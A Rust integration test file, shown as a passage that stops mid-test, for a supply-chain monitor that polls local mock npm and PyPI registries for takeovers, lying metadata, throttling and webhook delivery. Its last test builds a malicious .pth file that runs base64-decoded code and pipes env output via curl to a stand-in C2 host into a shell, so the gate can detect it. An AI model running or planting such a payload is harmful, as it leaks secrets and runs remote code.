//! `turncoat monitor` against registries on 127.0.0.1: a scripted one (exact documents, ETags,
//! lies, throttling) with a webhook receiver, and a real Verdaccio (publish, lock, poll, the
//! gate's verdict on the new version). Verdaccio tests skip with a printed reason when Node or
//! Verdaccio is absent; `TURNCOAT_TEST_REQUIRE_TOOLS=1` turns the skip into a failure.
#![allow(clippy::print_stderr)]

use std::collections::HashMap;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::path::Path;
use std::process::{Command, Output};
use std::sync::{Arc, Mutex};

use serde_json::{Value, json};

/// 2026-06-01T00:00:00Z: the monitor's clock in these tests.
const NOW: i64 = 1_780_272_000;

// ---------------------------------------------------------------- a scripted registry

#[derive(Clone)]
struct Doc {
    status: u16,
    etag: Option<String>,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
}

impl Doc {
    fn json(v: &Value, etag: &str) -> Doc {
        Doc {
            status: 200,
            etag: Some(etag.into()),
            headers: Vec::new(),
            body: serde_json::to_vec(v).unwrap(),
        }
    }
}

/// (path, If-None-Match sent, status answered)
type Log = Vec<(String, Option<String>, u16)>;

#[derive(Default)]
struct RegState {
    docs: HashMap<String, Doc>,
    /// Answer 304 to everything (a registry that lies about freshness).
    always_304: bool,
    log: Log,
}

struct Registry {
    url: String,
    state: Arc<Mutex<RegState>>,
}

/// The request line and headers (lower-case names) of one HTTP/1.1 request, and its body.
fn read_request(s: &std::net::TcpStream) -> Option<(String, HashMap<String, String>, Vec<u8>)> {
    let mut reader = BufReader::new(s.try_clone().ok()?);
    let mut line = String::new();
    reader.read_line(&mut line).ok()?;
    let mut headers = HashMap::new();
    loop {
        let mut h = String::new();
        if reader.read_line(&mut h).unwrap_or(0) == 0 || h == "\r\n" {
            break;
        }
        if let Some((k, v)) = h.split_once(':') {
            headers.insert(k.trim().to_ascii_lowercase(), v.trim().to_string());
        }
    }
    let len: usize = headers
        .get("content-length")
        .and_then(|l| l.parse().ok())
        .unwrap_or(0);
    let mut body = vec![0; len];
    reader.read_exact(&mut body).ok()?;
    Some((line, headers, body))
}

fn respond(s: &mut std::net::TcpStream, status: u16, headers: &[(String, String)], body: &[u8]) {
    let mut head = format!(
        "HTTP/1.1 {status} X\r\ncontent-length: {}\r\nconnection: close\r\n",
        body.len()
    );
    for (k, v) in headers {
        head.push_str(&format!("{k}: {v}\r\n"));
    }
    head.push_str("\r\n");
    let _ = s.write_all(head.as_bytes());
    let _ = s.write_all(body);
}

impl Registry {
    fn start() -> Registry {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("http://{}/", listener.local_addr().unwrap());
        let state = Arc::new(Mutex::new(RegState::default()));
        let st = state.clone();
        std::thread::spawn(move || {
            for conn in listener.incoming() {
                let Ok(mut s) = conn else { continue };
                let Some((line, headers, _)) = read_request(&s) else {
                    continue;
                };
                let path = line.split_whitespace().nth(1).unwrap_or("/").to_string();
                let inm = headers.get("if-none-match").cloned();
                let mut st = st.lock().unwrap();
                let (status, hdrs, body) = match st.docs.get(&path).cloned() {
                    _ if st.always_304 => (304, Vec::new(), Vec::new()),
                    Some(d) if d.etag.is_some() && inm == d.etag => (304, Vec::new(), Vec::new()),
                    Some(d) => {
                        let mut h = d.headers.clone();
                        if let Some(e) = &d.etag {
                            h.push(("etag".into(), e.clone()));
                        }
                        h.push(("content-type".into(), "application/json".into()));
                        (d.status, h, d.body)
                    }
                    None => (404, Vec::new(), b"{}".to_vec()),
                };
                st.log.push((path, inm, status));
                drop(st);
                respond(&mut s, status, &hdrs, &body);
            }
        });
        Registry { url, state }
    }

    fn set(&self, name: &str, doc: Doc) {
        self.state
            .lock()
            .unwrap()
            .docs
            .insert(format!("/{name}"), doc);
    }

    fn log(&self) -> Log {
        self.state.lock().unwrap().log.clone()
    }
}

/// A packument: `versions` as (version, publisher, RFC 3339 time).
fn packument(name: &str, versions: &[(&str, &str, &str)], maintainers: &[&str]) -> Value {
    let mut vs = serde_json::Map::new();
    let mut time = serde_json::Map::new();
    for (v, by, at) in versions {
        vs.insert(
            v.to_string(),
            json!({"name": name, "version": v, "_npmUser": {"name": by},
                   "dist": {"tarball": format!("http://127.0.0.1:9/{name}-{v}.tgz")}}),
        );
        time.insert(v.to_string(), json!(at));
    }
    let latest = versions.last().map(|v| v.0).unwrap_or("0.0.0");
    json!({
        "name": name,
        "dist-tags": {"latest": latest},
        "maintainers": maintainers.iter().map(|m| json!({"name": m})).collect::<Vec<_>>(),
        "time": time,
        "versions": vs,
    })
}

// ---------------------------------------------------------------- a webhook receiver

struct Receiver {
    url: String,
    bodies: Arc<Mutex<Vec<Value>>>,
    hits: Arc<Mutex<usize>>,
}

impl Receiver {
    /// Answers `status` to every POST and keeps the JSON bodies.
    fn start(status: u16) -> Receiver {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let bodies = Arc::new(Mutex::new(Vec::new()));
        let hits = Arc::new(Mutex::new(0));
        let (b, h) = (bodies.clone(), hits.clone());
        std::thread::spawn(move || {
            for conn in listener.incoming() {
                let Ok(mut s) = conn else { continue };
                *h.lock().unwrap() += 1;
                let Some((line, headers, body)) = read_request(&s) else {
                    continue;
                };
                assert!(line.starts_with("POST "), "{line}");
                assert_eq!(
                    headers.get("content-type").map(String::as_str),
                    Some("application/json")
                );
                b.lock()
                    .unwrap()
                    .push(serde_json::from_slice(&body).unwrap());
                respond(&mut s, status, &[], b"");
            }
        });
        Receiver { url, bodies, hits }
    }

    fn bodies(&self) -> Vec<Value> {
        self.bodies.lock().unwrap().clone()
    }

    fn hits(&self) -> usize {
        *self.hits.lock().unwrap()
    }
}

// ---------------------------------------------------------------- running turncoat

struct Run {
    code: Option<i32>,
    stdout: String,
    stderr: String,
}

impl Run {
    fn alerts(&self) -> Vec<Value> {
        self.stdout
            .lines()
            .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
            .collect()
    }
}

fn turncoat(dir: &Path, args: &[&str]) -> Run {
    let out: Output = Command::new(env!("CARGO_BIN_EXE_turncoat"))
        .current_dir(dir)
        .env("HOME", dir)
        .env("TURNCOAT_NOW", NOW.to_string())
        .env("TURNCOAT_CACHE_DIR", dir.join("cache"))
        .env_remove("TURNCOAT_DATABASE")
        .env_remove("NPM_CONFIG_REGISTRY")
        .env_remove("npm_config_registry")
        .args(args)
        .output()
        .unwrap();
    Run {
        code: out.status.code(),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

const ROSTER: &str = r#"
[[package]]
name = "team-pkg"

[[person]]
name = "Alice"
npm = "alice"
mfa = "hardware-key"
password-manager = true
"#;

/// `monitor --once --own team-pkg` with jsonl alerts and the given extra arguments.
fn own_args<'a>(reg: &'a Registry, db: &'a str, extra: &[&'a str]) -> Vec<&'a str> {
    let mut a = vec![
        "monitor",
        "--once",
        "--own",
        "team-pkg",
        "--roster",
        "roster.toml",
        "--format",
        "jsonl",
        "--registry",
        &reg.url,
        "--database",
        db,
    ];
    a.extend_from_slice(extra);
    a
}

fn project() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("roster.toml"), ROSTER).unwrap();
    dir
}

#[test]
fn own_package_takeover_alarm_first_to_stdout_file_and_webhook_then_304() {
    let reg = Registry::start();
    let dir = project();
    let d = dir.path();
    reg.set(
        "team-pkg",
        Doc::json(
            &packument(
                "team-pkg",
                &[("1.0.0", "alice", "2026-01-01T00:00:00Z")],
                &["alice"],
            ),
            "\"v1\"",
        ),
    );
    let hook = Receiver::start(200);
    // A listener the package data names: nothing may ever connect to it.
    let trap = Receiver::start(200);
    let webhook = format!("{}/hook/s3cret-path?token=s3cret-query", hook.url);
    let extra = [
        "--webhook",
        webhook.as_str(),
        "--alerts-file",
        "alerts.jsonl",
    ];

    let first = turncoat(d, &own_args(&reg, "store.sqlite", &extra));
    assert_eq!(first.code, Some(0), "{}", first.stderr);
    assert_eq!(first.stdout, "", "first sight raises no alerts");
    assert!(first.stderr.contains("1 baselines"), "{}", first.stderr);
    assert!(
        first.stderr.contains("first sight raises no alerts"),
        "{}",
        first.stderr
    );

    let mut doc = packument(
        "team-pkg",
        &[
            ("1.0.0", "alice", "2026-01-01T00:00:00Z"),
            ("1.0.1", "mallory", "2026-05-31T00:00:00Z"),
        ],
        &["alice", "mallory"],
    );
    // Registry-provided URLs everywhere a package can put one.
    doc["homepage"] = json!(format!("{}/homepage", trap.url));
    doc["repository"] = json!({"type": "git", "url": format!("{}/repo", trap.url)});
    doc["versions"]["1.0.1"]["dist"]["attestations"] = json!({"url": format!("{}/att", trap.url)});
    doc["versions"]["1.0.1"]["webhook"] = json!(format!("{}/webhook", trap.url));
    reg.set("team-pkg", Doc::json(&doc, "\"v2\""));

    let mut recording = extra.to_vec();
    recording.push("--record");
    let second = turncoat(d, &own_args(&reg, "store.sqlite", &recording));
    assert_eq!(second.code, Some(1), "{}", second.stderr);
    let alerts = second.alerts();
    assert_eq!(alerts[0]["code"], "monitor-takeover", "{alerts:#?}");
    assert_eq!(alerts[0]["level"], "block");
    assert!(
        alerts[0]["message"]
            .as_str()
            .unwrap()
            .starts_with("TAKEOVER ALARM")
    );
    assert!(alerts[0]["message"].as_str().unwrap().contains("`mallory`"));
    let codes: Vec<&str> = alerts.iter().map(|a| a["code"].as_str().unwrap()).collect();
    // The new version is judged against 1.0.0 (own packages too); this registry serves no
    // tarballs, so it cannot be: unjudged, a block, never a pass.
    for c in [
        "monitor-unjudged",
        "monitor-publisher-changed",
        "monitor-maintainer-added",
    ] {
        assert!(codes.contains(&c), "{codes:?}");
    }
    // The same alerts, in the same order, in the file and at the webhook.
    let file: Vec<Value> = std::fs::read_to_string(d.join("alerts.jsonl"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(file, alerts);
    assert_eq!(hook.bodies(), alerts);
    assert_eq!(trap.hits(), 0, "a registry-provided URL was contacted");
    for text in [&second.stdout, &second.stderr, &first.stderr] {
        assert!(
            !text.contains("s3cret"),
            "the webhook's secret was printed: {text}"
        );
    }

    let third = turncoat(d, &own_args(&reg, "store.sqlite", &extra));
    assert_eq!(third.code, Some(0), "{}", third.stderr);
    assert_eq!(third.stdout, "");
    assert!(
        third.stderr.contains("1 unchanged (304)"),
        "{}",
        third.stderr
    );
    let last = reg.log().last().cloned().unwrap();
    assert_eq!(last, ("/team-pkg".into(), Some("\"v2\"".into()), 304));
    assert_eq!(hook.bodies().len(), alerts.len(), "nothing new posted");

    // --record kept the detection delay: published 2026-05-31, seen 2026-06-01.
    let metrics = turncoat(
        d,
        &["metrics", "--database", "store.sqlite", "--format", "json"],
    );
    assert_eq!(metrics.code, Some(0), "{}", metrics.stderr);
    let rows: Value = serde_json::from_str(&metrics.stdout).unwrap();
    let delay = rows["metrics"]
        .as_array()
        .unwrap_or_else(|| panic!("{rows:#}"))
        .iter()
        .find(|r| r["metric"] == "monitor-detection-delay")
        .unwrap_or_else(|| panic!("{rows:#}"));
    assert_eq!(delay["value"], 86_400.0);
    assert_eq!(delay["scope"], "team-pkg");
}

#[test]
fn lying_documents_are_alerts_or_refused_and_never_become_the_baseline() {
    let reg = Registry::start();
    let dir = project();
    let d = dir.path();
    let good = packument(
        "team-pkg",
        &[("1.0.0", "alice", "2026-01-01T00:00:00Z")],
        &["alice"],
    );
    reg.set("team-pkg", Doc::json(&good, "\"g\""));
    assert_eq!(turncoat(d, &own_args(&reg, "s.sqlite", &[])).code, Some(0));

    // Thousands of maintainers: refused, the poll fails (exit 2), the state is kept.
    let many: Vec<String> = (0..5_000).map(|i| format!("m{i}")).collect();
    let many: Vec<&str> = many.iter().map(String::as_str).collect();
    let mut huge = packument(
        "team-pkg",
        &[
            ("1.0.0", "alice", "2026-01-01T00:00:00Z"),
            ("1.0.1", "alice", "2026-05-01T00:00:00Z"),
        ],
        &many,
    );
    reg.set("team-pkg", Doc::json(&huge, "\"h\""));
    let r = turncoat(d, &own_args(&reg, "s.sqlite", &[]));
    assert_eq!(r.code, Some(2), "{}", r.stderr);
    let a = r.alerts();
    assert_eq!(a.len(), 1, "{a:#?}");
    assert_eq!(a[0]["code"], "monitor-poll-failed");
    assert!(
        a[0]["message"]
            .as_str()
            .unwrap()
            .contains("5000 maintainers"),
        "{a:#?}"
    );

    // A document for another package: refused too.
    huge["name"] = json!("someone-else");
    huge["maintainers"] = json!([{"name": "alice"}]);
    reg.set("team-pkg", Doc::json(&huge, "\"o\""));
    let r = turncoat(d, &own_args(&reg, "s.sqlite", &[]));
    assert_eq!(r.code, Some(2));
    assert!(
        r.stdout.contains("answered for \\\"someone-else\\\""),
        "{}",
        r.stdout
    );

    // A dist-tag on a missing version and a publish time a year ahead: alerts, judged against
    // the good baseline (the refused documents were never stored: 1.0.1 is still new).
    let mut lying = packument(
        "team-pkg",
        &[
            ("1.0.0", "alice", "2026-01-01T00:00:00Z"),
            ("1.0.1", "alice", "2027-06-01T00:00:00Z"),
        ],
        &["alice"],
    );
    lying["dist-tags"]["latest"] = json!("9.9.9");
    reg.set("team-pkg", Doc::json(&lying, "\"l\""));
    let r = turncoat(d, &own_args(&reg, "s.sqlite", &[]));
    // 1.0.1 cannot be judged (this registry serves no tarballs): exit 1, never a pass.
    assert_eq!(r.code, Some(1), "{}", r.stderr);
    let codes: Vec<String> = r
        .alerts()
        .iter()
        .map(|a| a["code"].as_str().unwrap().to_string())
        .collect();
    for c in [
        "monitor-unjudged",
        "monitor-dist-tag-dangling",
        "monitor-future-publish-time",
    ] {
        assert!(codes.iter().any(|x| x == c), "{codes:?}");
    }
    assert!(!r.stderr.contains("panicked"), "{}", r.stderr);
}

#[test]
fn a_304_to_a_request_without_an_etag_is_refused() {
    let reg = Registry::start();
    let dir = project();
    reg.state.lock().unwrap().always_304 = true;
    let r = turncoat(dir.path(), &own_args(&reg, "s.sqlite", &[]));
    assert_eq!(r.code, Some(2), "{}", r.stderr);
    let a = r.alerts();
    assert_eq!(a[0]["code"], "monitor-poll-failed");
    assert!(
        a[0]["message"].as_str().unwrap().contains("sent no ETag"),
        "{a:#?}"
    );
    assert_eq!(reg.log()[0].1, None, "no If-None-Match on first sight");
    // Nothing was recorded as a baseline: the next good answer is the baseline, silently.
    reg.state.lock().unwrap().always_304 = false;
    reg.set(
        "team-pkg",
        Doc::json(
            &packument(
                "team-pkg",
                &[("1.0.0", "alice", "2026-01-01T00:00:00Z")],
                &["alice"],
            ),
            "\"a\"",
        ),
    );
    let r = turncoat(dir.path(), &own_args(&reg, "s.sqlite", &[]));
    assert_eq!((r.code, r.stdout.as_str()), (Some(0), ""), "{}", r.stderr);
    assert!(r.stderr.contains("1 baselines"), "{}", r.stderr);
}

#[test]
fn throttling_is_backed_off_with_retry_after_and_a_failing_webhook_is_retried_then_reported() {
    let reg = Registry::start();
    let dir = project();
    let d = dir.path();
    let v1 = packument(
        "team-pkg",
        &[("1.0.0", "alice", "2026-01-01T00:00:00Z")],
        &["alice"],
    );
    reg.set("team-pkg", Doc::json(&v1, "\"1\""));
    assert_eq!(turncoat(d, &own_args(&reg, "s.sqlite", &[])).code, Some(0));

    reg.set(
        "team-pkg",
        Doc {
            status: 429,
            etag: None,
            headers: vec![("retry-after".into(), "120".into())],
            body: b"slow down".to_vec(),
        },
    );
    let r = turncoat(d, &own_args(&reg, "s.sqlite", &[]));
    assert_eq!(r.code, Some(2));
    let msg = r.alerts()[0]["message"].as_str().unwrap().to_string();
    assert!(
        msg.contains("HTTP 429") && msg.contains("next attempt in 120 s"),
        "{msg}"
    );
    // Exactly one request: the monitor does not hammer a throttling registry.
    assert_eq!(reg.log().iter().filter(|l| l.2 == 429).count(), 1);

    // A maintainer added (a warn-level alert); the webhook answers 500 every time.
    let v2 = packument(
        "team-pkg",
        &[("1.0.0", "alice", "2026-01-01T00:00:00Z")],
        &["alice", "eve"],
    );
    reg.set("team-pkg", Doc::json(&v2, "\"2\""));
    let down = Receiver::start(500);
    let hook = format!("{}/s3cret", down.url);
    let r = turncoat(d, &own_args(&reg, "s.sqlite", &["--webhook", &hook]));
    assert_eq!(r.code, Some(2), "{}", r.stderr);
    assert_eq!(down.bodies().len(), 3, "retried");
    assert!(
        r.stderr.contains("failed after 3 attempts: HTTP 500"),
        "{}",
        r.stderr
    );
    assert!(!r.stderr.contains("s3cret"), "{}", r.stderr);
    // Not delivered: the state is kept, so the alert comes again once the webhook is back.
    let up = Receiver::start(204);
    let hook = format!("{}/s3cret", up.url);
    let r = turncoat(d, &own_args(&reg, "s.sqlite", &["--webhook", &hook]));
    assert_eq!(r.code, Some(0), "{}", r.stderr);
    assert_eq!(up.bodies().len(), 1);
    assert_eq!(up.bodies()[0]["code"], "monitor-maintainer-added");
}

#[test]
fn own_without_a_roster_is_an_error() {
    let reg = Registry::start();
    let dir = tempfile::tempdir().unwrap();
    let r = turncoat(
        dir.path(),
        &[
            "monitor",
            "--once",
            "--own",
            "x",
            "--registry",
            &reg.url,
            "--database",
            "s.sqlite",
        ],
    );
    assert_eq!(r.code, Some(2));
    assert!(r.stderr.contains("roster"), "{}", r.stderr);
    assert!(reg.log().is_empty(), "nothing polled");
}

#[test]
fn a_version_the_gate_cannot_judge_is_a_block_alert_never_a_pass() {
    let reg = Registry::start();
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let lock = json!({
        "name": "proj", "version": "1.0.0", "lockfileVersion": 3, "requires": true,
        "packages": {
            "": {"name": "proj", "version": "1.0.0", "dependencies": {"dep": "^1.0.0"}},
            "node_modules/dep": {
                "version": "1.0.0",
                "resolved": format!("{}dep/-/dep-1.0.0.tgz", reg.url),
                "integrity": "sha512-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=="
            }
        }
    });
    std::fs::write(
        d.join("package-lock.json"),
        serde_json::to_vec_pretty(&lock).unwrap(),
    )
    .unwrap();
    reg.set(
        "dep",
        Doc::json(
            &packument(
                "dep",
                &[("1.0.0", "alice", "2026-01-01T00:00:00Z")],
                &["alice"],
            ),
            "\"1\"",
        ),
    );
    let args = ["monitor", "--registry", &reg.url, "--database", "s.sqlite"];
    // Human output (the default) says a baseline was recorded.
    let first = turncoat(d, &args);
    assert_eq!(first.code, Some(0), "{}", first.stderr);
    assert!(
        first.stdout.starts_with(
            "baseline  dep: 1 versions, 1 maintainers recorded (first sight raises no alerts)"
        ),
        "{}",
        first.stdout
    );
    // 1.0.1 appears, but no tarball can be fetched (404): the gate fails.
    reg.set(
        "dep",
        Doc::json(
            &packument(
                "dep",
                &[
                    ("1.0.0", "alice", "2026-01-01T00:00:00Z"),
                    ("1.0.1", "alice", "2026-05-01T00:00:00Z"),
                ],
                &["alice"],
            ),
            "\"2\"",
        ),
    );
    let second = turncoat(d, &args);
    assert_eq!(second.code, Some(1), "{}\n{}", second.stdout, second.stderr);
    assert!(
        second
            .stdout
            .starts_with("BLOCK  could not judge dep@1.0.1: "),
        "{}",
        second.stdout
    );
    assert!(
        second.stdout.contains("[monitor-unjudged]"),
        "{}",
        second.stdout
    );
    assert!(!second.stdout.contains("pass"), "{}", second.stdout);
}

#[test]
fn every_monitor_code_is_explained() {
    let dir = tempfile::tempdir().unwrap();
    let list = turncoat(dir.path(), &["explain", "--list"]);
    let codes: Vec<&str> = list
        .stdout
        .split_whitespace()
        .filter(|w| w.starts_with("monitor-"))
        .collect();
    assert_eq!(codes.len(), 15, "{}", list.stdout);
    let takeover = turncoat(dir.path(), &["explain", "monitor-takeover"]);
    assert_eq!(takeover.code, Some(0));
    assert!(takeover.stdout.contains("roster"), "{}", takeover.stdout);
}

/// A PyPI JSON API project document: `releases` as (version, [(file, yanked)]).
fn pypi_doc(releases: &[(&str, &[(&str, bool)])], owners: &[&str]) -> Value {
    let mut rel = serde_json::Map::new();
    for (i, (v, files)) in releases.iter().enumerate() {
        let files: Vec<Value> = files
            .iter()
            .map(|(f, yanked)| {
                json!({"filename": f, "digests": {"sha256": "ab".repeat(32)},
                       "upload_time_iso_8601": format!("2026-0{}-01T00:00:00.000000Z", i + 1),
                       "packagetype": "sdist", "yanked": yanked})
            })
            .collect();
        rel.insert(v.to_string(), Value::Array(files));
    }
    json!({
        "info": {"name": "Demo", "version": releases.last().unwrap().0},
        "releases": rel,
        "ownership": {"roles": owners.iter().map(|o| json!({"role": "Owner", "user": o})).collect::<Vec<_>>(),
                      "organization": null},
        "last_serial": 7
    })
}

#[test]
fn python_lockfiles_are_followed_new_files_yanks_owners_and_unjudged_releases() {
    let reg = Registry::start();
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(
        d.join("requirements.txt"),
        format!("demo==1.0 --hash=sha256:{}\n", "ab".repeat(32)),
    )
    .unwrap();
    let index = format!("{}simple/", reg.url);
    let args = [
        "monitor",
        "--lockfile",
        "requirements.txt",
        "--index-url",
        &index,
        "--database",
        "s.sqlite",
        "--format",
        "jsonl",
    ];
    let set = |doc: Value| reg.set("pypi/demo/json", Doc::json(&doc, "\"x\""));
    set(pypi_doc(
        &[("1.0", &[("demo-1.0.tar.gz", false)])],
        &["alice"],
    ));
    let first = turncoat(d, &args);
    assert_eq!(
        (first.code, first.stdout.as_str()),
        (Some(0), ""),
        "{}",
        first.stderr
    );
    assert!(first.stderr.contains("1 baselines"), "{}", first.stderr);

    // A wheel added to the locked release, a new owner, and a new release whose files the
    // index does not serve (the gate cannot judge it: a block, never a pass).
    set(pypi_doc(
        &[
            (
                "1.0",
                &[
                    ("demo-1.0.tar.gz", false),
                    ("demo-1.0-py3-none-any.whl", false),
                ],
            ),
            ("1.1", &[("demo-1.1.tar.gz", false)]),
        ],
        &["alice", "mallory"],
    ));
    let second = turncoat(d, &args);
    assert_eq!(second.code, Some(1), "{}\n{}", second.stdout, second.stderr);
    let alerts = second.alerts();
    let codes: Vec<&str> = alerts.iter().map(|a| a["code"].as_str().unwrap()).collect();
    assert_eq!(codes[0], "monitor-unjudged", "{alerts:#?}");
    assert_eq!(alerts[0]["version"], "1.1");
    assert_eq!(alerts[0]["locked"], "1.0");
    for c in ["monitor-file-added", "monitor-maintainer-added"] {
        assert!(codes.contains(&c), "{codes:?}");
    }
    assert!(
        alerts[0]["registry"]
            .as_str()
            .unwrap()
            .ends_with("/simple/"),
        "{alerts:#?}"
    );

    // The locked release is yanked.
    set(pypi_doc(
        &[
            (
                "1.0",
                &[
                    ("demo-1.0.tar.gz", true),
                    ("demo-1.0-py3-none-any.whl", true),
                ],
            ),
            ("1.1", &[("demo-1.1.tar.gz", false)]),
        ],
        &["alice", "mallory"],
    ));
    let third = turncoat(d, &args);
    assert_eq!(third.code, Some(0), "{}", third.stderr);
    let codes: Vec<String> = third
        .alerts()
        .iter()
        .map(|a| a["code"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(codes, ["monitor-version-yanked"]);
}

#[test]
fn interval_mode_leaves_a_throttled_package_alone_until_its_backoff_ends() {
    let reg = Registry::start();
    let dir = project();
    let d = dir.path();
    reg.set(
        "team-pkg",
        Doc {
            status: 503,
            etag: None,
            headers: vec![("retry-after".into(), "3600".into())],
            body: Vec::new(),
        },
    );
    let mut args = own_args(&reg, "s.sqlite", &[]);
    args.retain(|a| *a != "--once");
    args.extend(["--interval", "10s"]);
    let mut child = Command::new(env!("CARGO_BIN_EXE_turncoat"))
        .current_dir(d)
        .env("HOME", d)
        .env("TURNCOAT_CACHE_DIR", d.join("cache"))
        .env_remove("TURNCOAT_NOW")
        .args(&args)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let stderr = child.stderr.take().unwrap();
    let mut lines = BufReader::new(stderr).lines();
    let mut summaries = Vec::new();
    while summaries.len() < 2 {
        let Some(Ok(line)) = lines.next() else { break };
        if line.contains(" polled (") {
            summaries.push(line);
        }
    }
    child.kill().unwrap();
    child.wait().unwrap();
    assert_eq!(summaries.len(), 2, "{summaries:?}");
    assert!(summaries[0].contains("1 failed"), "{summaries:?}");
    assert!(
        summaries[1].contains("0 polled") && summaries[1].contains("1 deferred by backoff"),
        "{summaries:?}"
    );
    assert_eq!(reg.log().len(), 1, "polled again inside its backoff");
}

#[test]
fn postgres_holds_the_state_when_given() {
    let Ok(dsn) = std::env::var("TURNCOAT_TEST_POSTGRES") else {
        assert!(
            !require_tools(),
            "TURNCOAT_TEST_POSTGRES is not set and TURNCOAT_TEST_REQUIRE_TOOLS=1"
        );
        eprintln!("skipped postgres_holds_the_state_when_given: TURNCOAT_TEST_POSTGRES is not set");
        return;
    };
    let reg = Registry::start();
    let dir = project();
    let d = dir.path();
    // A name of this run's own: the database is shared with other tests.
    let name = format!(
        "pg-{}-{}",
        std::process::id(),
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_nanos()
    );
    let v1 = packument(
        &name,
        &[("1.0.0", "alice", "2026-01-01T00:00:00Z")],
        &["alice"],
    );
    reg.set(&name, Doc::json(&v1, "\"p1\""));
    let args = [
        "monitor",
        "--once",
        "--own",
        &name,
        "--roster",
        "roster.toml",
        "--format",
        "jsonl",
        "--registry",
        &reg.url,
        "--database",
        &dsn,
    ];
    let first = turncoat(d, &args);
    assert_eq!(
        (first.code, first.stdout.as_str()),
        (Some(0), ""),
        "{}",
        first.stderr
    );
    let v2 = packument(
        &name,
        &[
            ("1.0.0", "alice", "2026-01-01T00:00:00Z"),
            ("1.0.1", "eve", "2026-05-01T00:00:00Z"),
        ],
        &["alice"],
    );
    reg.set(&name, Doc::json(&v2, "\"p2\""));
    let second = turncoat(d, &args);
    assert_eq!(second.code, Some(1), "{}", second.stderr);
    assert_eq!(second.alerts()[0]["code"], "monitor-takeover");
    let third = turncoat(d, &args);
    assert!(
        third.stderr.contains("1 unchanged (304)"),
        "{}",
        third.stderr
    );
    // The password of the DSN is never printed.
    if let Some(pw) = dsn
        .split_once("://")
        .and_then(|(_, r)| r.split_once('@'))
        .and_then(|(a, _)| a.split_once(':'))
        .map(|(_, p)| p)
    {
        for r in [&first, &second, &third] {
            assert!(!r.stderr.contains(pw) && !r.stdout.contains(pw));
        }
    }
}

/// One release of a directory index: version, wheel members, upload time.
type Release<'a> = (&'a str, Vec<(&'a str, &'a str)>, &'a str);

/// A wheel with `files`; its sha256 hex.
fn wheel(path: &Path, files: &[(&str, &str)]) -> String {
    use sha2::Digest as _;
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (p, d) in files {
        w.start_file(*p, zip::write::SimpleFileOptions::default())
            .unwrap();
        w.write_all(d.as_bytes()).unwrap();
    }
    let bytes = w.finish().unwrap().into_inner();
    std::fs::write(path, &bytes).unwrap();
    sha2::Sha256::digest(&bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// A directory index under `root` (`simple/demo/index.json`, `pypi/demo/json`, `files/`)
/// holding one wheel per release `(version, members, upload time)`; the sha256 per version.
fn python_mirror(root: &Path, releases: &[Release<'_>]) -> HashMap<String, String> {
    let mut hashes = HashMap::new();
    let (mut simple, mut api) = (Vec::new(), serde_json::Map::new());
    std::fs::create_dir_all(root.join("files")).unwrap();
    for (v, members, at) in releases {
        let filename = format!("demo-{v}-py3-none-any.whl");
        let sha = wheel(&root.join("files").join(&filename), members);
        simple.push(
            json!({"filename": filename, "url": format!("../../files/{filename}"),
                           "hashes": {"sha256": sha}, "upload-time": at}),
        );
        api.insert(
            v.to_string(),
            json!([{"filename": filename, "digests": {"sha256": sha},
                   "upload_time_iso_8601": at, "packagetype": "bdist_wheel", "yanked": false}]),
        );
        hashes.insert(v.to_string(), sha);
    }
    for (dir, file, body) in [
        (
            "simple/demo",
            "index.json",
            json!({"meta": {"api-version": "1.1"}, "name": "demo", "files": simple}),
        ),
        (
            "pypi/demo",
            "json",
            json!({"info": {"name": "demo", "version": releases.last().unwrap().0},
                                     "releases": api, "last_serial": 1}),
        ),
    ] {
        std::fs::create_dir_all(root.join(dir)).unwrap();
        std::fs::write(root.join(dir).join(file), body.to_string()).unwrap();
    }
    hashes
}

#[test]
fn a_new_python_release_is_judged_by_the_python_gate_against_the_locked_one() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let mirror = d.join("mirror");
    let v1 = (
        "1.0",
        vec![("demo/__init__.py", "x = 1\n")],
        "2026-01-01T00:00:00Z",
    );
    let h = python_mirror(&mirror, std::slice::from_ref(&v1));
    std::fs::write(
        d.join("requirements.txt"),
        format!("demo==1.0 --hash=sha256:{}\n", h["1.0"]),
    )
    .unwrap();
    let index = format!("file://{}/simple/", mirror.display());
    let args = [
        "monitor",
        "--lockfile",
        "requirements.txt",
        "--index-url",
        &index,
        "--database",
        "s.sqlite",
        "--format",
        "jsonl",
    ];
    let first = turncoat(d, &args);
    assert_eq!(
        (first.code, first.stdout.as_str()),
        (Some(0), ""),
        "{}",
        first.stderr
    );

    let pth = "import os, base64; exec(base64.b64decode('aW1wb3J0IG9z'))\nimport os; os.system('curl https://c2.invalid/$(env|base64) | sh')\n";
    python_mirror(
        &mirror,
        &[
            v1,
            (
                "1.1",
                vec![("demo/__init__.py", "x = 1\n"), ("demo.pth", pth)],
                "2026-05-01T00:00:00Z",
            ),
        ],
    );
    let second = turncoat(d, &args);
    assert_eq!(second.code, Some(1), "{}\n{}", second.stdout, second.stderr);
    let alerts = second.alerts();
    assert_eq!(alerts[0]["code"], "monitor-new-version", "{alerts:#?}");
    assert_eq!(alerts[0]["version"], "1.1");
    assert_eq!(alerts[0]["locked"], "1.0");
